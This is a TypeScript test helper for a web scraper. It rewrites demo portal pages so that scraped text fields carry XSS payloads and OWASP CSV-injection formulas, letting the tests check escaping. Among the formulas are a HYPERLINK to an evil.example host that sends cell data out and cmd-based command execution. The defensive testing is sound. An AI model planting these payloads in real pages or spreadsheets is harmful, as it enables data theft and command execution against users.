/**
 * Hostile variants of the demo portal pages: every text the scraper reads into a text field of a
 * record (spec: `text` and `text | null` fields) is shown by the page with a markup, script or
 * spreadsheet-formula payload in front of it. The payloads are page *text*, as a portal would
 * show a name or a label that someone typed: the variant is the page's HTML with that text
 * escaped, served at the page's real address. Used by the browser test
 * tests/e2e/injection-all.e2e.test.ts and checked scraper by scraper in hostile-pages.test.ts.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { z } from 'zod';
import { DEFAULT_PORTALS_DIR, loadPortalIndex } from '../../demo/server';
import { parseHtml } from '../../tools/parse-html';
import { type RecordKind, STORED_BY_KIND, text } from '../../storage/schemas';

/** Parsed as HTML anywhere, each would make an element, run a script or open a dialog. */
export const MARKUP_PAYLOADS = [
  '<img src=x onerror="alert(1)">',
  '<script>alert(2)</script>',
  '"><svg onload=alert(3)>',
  "javascript:alert('4')",
] as const;

/** OWASP's CSV injection examples: a spreadsheet would run each as a formula. */
export const FORMULA_PAYLOADS = [
  '=HYPERLINK("https://evil.example/?d="&A1;"clic")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
] as const;

export const PAYLOADS: readonly string[] = [...MARKUP_PAYLOADS, ...FORMULA_PAYLOADS];

/** A URL a link may point at instead of a file: an action, never a record's `url`. */
export const JAVASCRIPT_URL = 'javascript:alert(5)';

export function carriesPayload(value: string): boolean {
  return PAYLOADS.some((payload) => value.includes(payload));
}

/** The fields of a kind that hold page text (`text` or `text | null` in storage/schemas.ts). */
export function textFields(kind: RecordKind): string[] {
  return Object.entries(STORED_BY_KIND[kind].shape as Record<string, z.ZodType>)
    .filter(([, schema]) => schema === text || (schema as { unwrap?: () => unknown }).unwrap?.() === text)
    .map(([field]) => field);
}

interface PageRecord {
  kind: string;
  url?: string | null;
  [field: string]: unknown;
}

const SKIPPED = new Set(['SCRIPT', 'STYLE', 'NOSCRIPT', 'TEMPLATE']);

function escapeRegExp(value: string): string {
  return value.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}

/**
 * The page `html` (at `url`) with a payload in front of every text-field value of `records` (the
 * page's expected records), wherever the page shows it, in its title too; and, when
 * `javascriptLink`, the first document's link pointing at a `javascript:` URL.
 */
export function hostilePage(
  html: string,
  url: string,
  records: readonly PageRecord[],
  options: { javascriptLink?: boolean; offset?: number } = {},
): string {
  const { document, close } = parseHtml(html, url);
  try {
    const replacements = new Map<string, string>();
    for (const record of records) {
      for (const field of textFields(record.kind as RecordKind)) {
        const value = record[field];
        if (typeof value !== 'string' || replacements.has(value)) continue;
        const payload = PAYLOADS[(replacements.size + (options.offset ?? 0)) % PAYLOADS.length]!;
        replacements.set(value, `${payload}${value}`);
      }
    }
    // Longest first, so that "Claire DUPONT" wins over a shorter value inside it; whole words only
    // ("5" is not replaced inside "15"); any run of spaces in the page matches one in the record.
    const values = [...replacements.keys()].sort((a, b) => b.length - a.length);
    const pattern = new RegExp(
      values
        .map(
          (value) =>
            `(?<![\\p{L}\\p{N}])${escapeRegExp(value).replace(/ /g, '[\\s\\u00a0\\u202f]+')}(?![\\p{L}\\p{N}])`,
        )
        .join('|'),
      'gu',
    );
    const normal = (shown: string) => shown.replace(/[\s\u00a0\u202f]+/g, ' ');
    const walker = document.createTreeWalker(document.documentElement, 4 /* NodeFilter.SHOW_TEXT */);
    const nodes: Text[] = [];
    for (let node = walker.nextNode(); node; node = walker.nextNode()) {
      if (!SKIPPED.has(node.parentElement?.tagName ?? '')) nodes.push(node as Text);
    }
    if (values.length > 0) {
      for (const node of nodes) {
        node.data = node.data.replace(pattern, (shown) => replacements.get(normal(shown)) ?? shown);
      }
    }
    document.title = `${PAYLOADS[0]}${document.title}`;

    if (options.javascriptLink) {
      const target = records.find((record) => record.kind === 'document' && record.url)?.url;
      const link = [...document.querySelectorAll<HTMLAnchorElement>('a[href]')].find(
        (a) => new URL(a.getAttribute('href') ?? '', url).href === target,
      );
      link?.setAttribute('href', JAVASCRIPT_URL);
    }
    return `<!DOCTYPE html>\n${document.documentElement.outerHTML}`;
  } finally {
    void close();
  }
}

export interface HostileCase {
  file: string;
  url: string;
  records: Array<Record<string, unknown> & { kind: string }>;
}

/** Every static demo page that gives records (script-drawn pages draw the same data). */
export function hostileCases(): HostileCase[] {
  return loadPortalIndex().portals.flatMap((portal) =>
    portal.pages
      .filter((page) => !page.spa && !page.expectError)
      .map((page) => ({
        file: page.file,
        url: page.url,
        records:
          (
            JSON.parse(readFileSync(join(DEFAULT_PORTALS_DIR, page.expected), 'utf8')) as {
              records: HostileCase['records'] | null;
            }
          ).records ?? [],
      }))
      .filter((page) => page.records.length > 0),
  );
}

/** `kind.field` of every text field that holds a value in `records`. */
export function filledTextFields(records: readonly HostileCase['records'][number][]): Set<string> {
  return new Set(
    records.flatMap((record) =>
      textFields(record.kind as RecordKind)
        .filter((field) => typeof record[field] === 'string')
        .map((field) => `${record.kind}.${field}`),
    ),
  );
}
